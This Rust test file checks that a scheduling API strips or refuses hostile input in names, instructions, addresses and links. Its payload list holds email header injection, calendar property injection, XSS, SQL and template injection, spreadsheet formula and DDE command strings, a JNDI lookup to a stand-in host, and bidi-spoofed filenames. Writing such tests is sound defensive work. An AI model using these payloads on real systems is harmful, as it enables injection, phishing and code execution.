//! Hostile words over the API end as a refusal, or as mail that keeps its headers, its properties and its elements;
//! and they are shown back unharmed.

use hourkeep_tests::{House, Person};
use serde_json::{Value, json};

use crate::{home::Home as _, letter::Letter};

/// What people type who mean harm, or just have an unusual name.
const WORDS: [&str; 24] = [
    "Eve\r\nBcc: eve@evil.example",
    "Eve\nSubject: other",
    "Eve\rX-Header: 1",
    "Eve\r\n\r\n<h1>body</h1>",
    "Eve\r\nATTENDEE:mailto:eve@evil.example",
    "Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:other\r\nEND:VEVENT",
    "\"Eve\" <eve@evil.example>, \"x",
    "Eve\";CN=\"x:y;z,a\\",
    "Eve; DROP, TABLE: clients\\n\\N\\;",
    "^n^'^^ %0D%0ABcc: eve@evil.example",
    "=?utf-8?Q?=0D=0ABcc:_eve@evil.example?=",
    "--=_m_0\r\nContent-Type: text/html\r\n\r\n<script>",
    "<script>alert(1)</script>",
    "</title></style><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "<!-- &amp; &#60;b&#62; ]]>",
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1=2\t-2",
    "\u{202E}gnp.exe\u{202C} \u{2066}x\u{2069}",
    "שלום עולם مرحبا",
    "👩‍👩‍👧 🧘🏽‍♀️ Zoë 老虎 Łódź",
    "\u{0}\u{7}\u{1b}[31mred\u{85}\u{2028}\u{2029}\u{FEFF}",
    "' OR 1=1; {{7*7}} ${jndi:ldap://evil.example}",
];

/// As the API keeps a name: one line of words, without what ends a line or turns it around.
fn kept(word: &str) -> String {
    let hostile = |c: char| {
        c.is_control()
            || c.is_whitespace()
            || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
    };
    word.split(hostile).filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ")
}

/// The tags of a page without the targets of its links, and line breaks left out.
fn tags(page: &str) -> Vec<String> {
    let shape = |tag: &str| match tag.split_once("href=\"") {
        Some((before, rest)) => format!("{before}href{}", rest.split_once('"').unwrap().1),
        None => tag.to_owned(),
    };
    let inner = page.split('<').skip(1).map(|piece| shape(piece.split_once('>').unwrap().0));
    inner.filter(|tag| tag != "br").collect()
}

/// A session of a client with these words everywhere, invited, moved, reminded of and cancelled. Answers the mails.
async fn life(house: &House, ada: &Person, word: &str, start: &str, moved: &str) -> (Value, Value, Vec<Letter>) {
    let email = format!("{}@family.test", start.replace([':', '-'], "").to_lowercase());
    let contacts = json!([{"name": word, "kind": "guardian", "email": email}]);
    let client = json!({
        "first_name": word, "last_name": word, "practitioner_ids": [house.ada_id], "reminder_channels": ["email"], "contacts": contacts,
    });
    let client = ada.post("/v1/clients", client).await.expect(201).body;
    let room = ada.post("/v1/rooms", json!({"name": word, "kind": "in_person"})).await.expect(201).text_of("/id");
    let location = json!({"name": word, "place_of_service": "11"});
    let location = ada.post("/v1/locations", location).await.expect(201).text_of("/id");
    let session = json!({
        "clients": [{"client_id": client["id"]}], "local_start": start, "room_id": room, "location_id": location, "instructions": word,
        "invite": {"send": true}, "reminders": [{"days_before": 1, "channel": "email"}],
    });
    let session = ada.post("/v1/sessions", session).await.expect(201).body;
    house.settle().await;
    house.act(&session, "reschedule", json!({"local_start": moved, "reason": word})).await;
    house.settle().await;
    house.act(&session, "cancel", json!({"reason": word})).await;
    house.settle().await;
    (client, session, house.letters_to(&email).await)
}

#[tokio::test]
async fn hostile_words_break_no_header_no_property_and_no_element() {
    let house = House::new().await;
    let (_, _, plain) = life(&house, &house.ada, "x", "2027-02-01T00:00", "2027-02-01T00:20").await;
    assert_eq!(plain.len(), 3);
    for (number, word) in WORDS.iter().enumerate() {
        let day = 2 + number;
        let (start, moved) = (format!("2027-02-{day:02}T00:00"), format!("2027-02-{day:02}T00:20"));
        let (client, session, letters) = life(&house, &house.ada, word, &start, &moved).await;
        let right = kept(word);
        assert_eq!([&client["first_name"], &client["last_name"], &client["contacts"][0]["name"]], [&json!(right); 3]);
        assert_eq!(kept(session["instructions"].as_str().unwrap()), right);
        assert_eq!(letters.len(), plain.len(), "{word:?}");
        for (letter, plain) in letters.iter().zip(&plain) {
            check(letter, plain, &right);
        }
        let path = format!("/v1/sessions/{}/history", session["id"].as_str().unwrap());
        assert!(house.ada.get(&path).await.expect(200).text.contains(&json!(right).to_string()), "{word:?}");
    }
}

fn check(letter: &Letter, plain: &Letter, right: &str) {
    assert_eq!(letter.headers, plain.headers, "{right:?}");
    assert_eq!(letter.to_name.as_deref(), Some(right.replace("=?", "= ?").as_str()));
    assert_eq!(tags(&letter.html), tags(&plain.html), "{right:?}");
    let (calendar, harmless) = (letter.invitation.as_ref().unwrap(), plain.invitation.as_ref().unwrap());
    assert_eq!(calendar.properties, harmless.properties, "{right:?}");
    assert_eq!((&calendar.summary, &calendar.organizer), (&harmless.summary, &harmless.organizer));
    assert!(
        letter.text.contains(&format!("Hello {right},")) && letter.text.contains(&format!("Place: {right}, {right}")),
        "{}",
        letter.text
    );
    assert!(!letter.subject.contains(right) || right == "x", "{}", letter.subject);
}

#[tokio::test]
async fn words_of_ten_kilobytes_are_refused_as_names_and_kept_as_instructions() {
    let house = House::new().await;
    let long = "🧘 <b>\"long\"</b>; \r\n".repeat(600);
    let refused = house.ada.post("/v1/clients", json!({"first_name": long})).await.refused(422, "invalid-field");
    assert_eq!(refused.body["pointer"], "/first_name");
    let body = house.session("2026-12-10T09:00", json!({"invite": {"send": true}, "instructions": "y".repeat(10_001)}));
    house.ada.post("/v1/sessions", body).await.refused(422, "invalid-field");

    let longest: String = long.chars().take(10_000).collect();
    let session = house.schedule("2026-12-10T09:00", json!({"invite": {"send": true}, "instructions": longest})).await;
    house.settle().await;
    let shown = session["instructions"].as_str().unwrap();
    assert_eq!(shown, longest.replace("\r\n", "\n").trim());
    let letters = house.letters().await;
    assert!(letters[0].invitation.as_ref().unwrap().description.ends_with(shown), "read back whole by a calendar");
    assert_eq!(letters[0].html.matches("<b>").count(), 0);
    let said: String = letters[0].text.lines().map(str::trim).collect::<Vec<_>>().join("\n");
    assert!(said.contains(&shown.lines().map(str::trim).collect::<Vec<_>>().join("\n")), "and whole in the text");
}

#[tokio::test]
async fn addresses_and_links_that_carry_more_than_one_thing_are_refused() {
    let house = House::new().await;
    for email in ["a@b.test\r\nBcc: c@d.test", "a@b.test, c@d.test", "<a@b.test>", "\"a\"@b.test", "a@b", "é@b.test", "a b@c.test"]
    {
        let body = house.session("2026-12-10T09:00", json!({"invite": {"send": true, "recipients": [{"email": email}]}}));
        let refused = house.ada.post("/v1/sessions", body).await.refused(422, "invalid-field");
        assert_eq!(refused.body["pointer"], "/invite/recipients/0/email", "{email}");
    }
    for url in
        ["javascript:alert(1)", "https://x.test/\"onclick=", "https://x.test/\r\nX: 1", "data:text/html,x", "https://x.test/ y"]
    {
        let body = house.session("2026-12-10T09:00", json!({"url": url}));
        let refused = house.ada.post("/v1/sessions", body).await.refused(422, "invalid-field");
        assert_eq!(refused.body["pointer"], "/url", "{url}");
    }
    house.settle().await;
    assert!(house.mails().await.is_empty());
}

#[tokio::test]
async fn the_practices_own_name_may_be_hostile_too() {
    let house = House::new().await;
    for (number, word) in WORDS.iter().enumerate() {
        house.ada.patch("/v1/practice", json!({"name": word, "policies": {"sender_name": word}})).await.expect(200);
        let start = format!("2027-02-{:02}T00:00", 2 + number);
        let session = house.schedule(&start, json!({"invite": {"send": true}})).await;
        house.settle().await;
        let letter = house.newest_letter().await;
        let right = kept(word);
        assert_eq!(letter.invitation.as_ref().unwrap().summary, format!("Session with {right}"));
        assert!(letter.subject.contains(&right.replace("=?", "= ?")), "{}", letter.subject);
        assert!(!letter.html.contains("<script") && !letter.html.contains("<img"));
        let page = house.anyone().get(&format!("/s/{}", session["clients"][0]["code"].as_str().unwrap())).await.expect(200).text;
        assert!(!page.contains("<script") && !page.contains("<img"), "{page}");
    }
}
